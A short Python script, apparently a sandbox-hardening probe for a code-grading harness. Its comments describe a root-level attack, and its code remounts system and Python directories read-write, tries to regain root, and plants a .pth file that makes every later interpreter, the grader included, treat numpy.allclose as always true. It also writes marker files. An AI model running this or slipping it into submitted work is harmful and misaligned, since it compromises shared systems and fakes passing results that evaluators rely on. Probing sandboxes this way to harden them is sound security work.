# As root in the kernel (bubblewrap alone, grader run as root): remount the system and the Python
# environment read-write, plant a .pth that every later interpreter runs (the next submission, the
# reference run, the grader itself), and become root again if the kernel was made another user.
# needs: sandbox
import ctypes, os, sys, sysconfig
libc = ctypes.CDLL(None, use_errno=True)
for top in sorted({sys.prefix, sys.base_prefix, sysconfig.get_paths()["purelib"], "/usr", "/etc"}):
    libc.mount(None, top.encode(), None, 0x20 | 0x1000, None)  # MS_REMOUNT | MS_BIND, read-write
    libc.mount(None, top.encode(), None, 0x20, None)  # MS_REMOUNT
try:
    os.setuid(0)
except OSError:
    pass
payload = ("import numpy; numpy.allclose = lambda *a, **k: True; "
           "open('/tmp/attack-was-here', 'w').write('planted')\n")
for target in [os.path.join(sysconfig.get_paths()["purelib"], "zz-attack-plant.pth"),
               os.path.join(sys.base_prefix, "lib", "python3.11", "site-packages", "zz-attack-plant.pth"),
               "/etc/attack-was-here", "/usr/attack-was-here"]:
    try:
        with open(target, "w") as f:
            f.write(payload)
    except OSError:
        pass
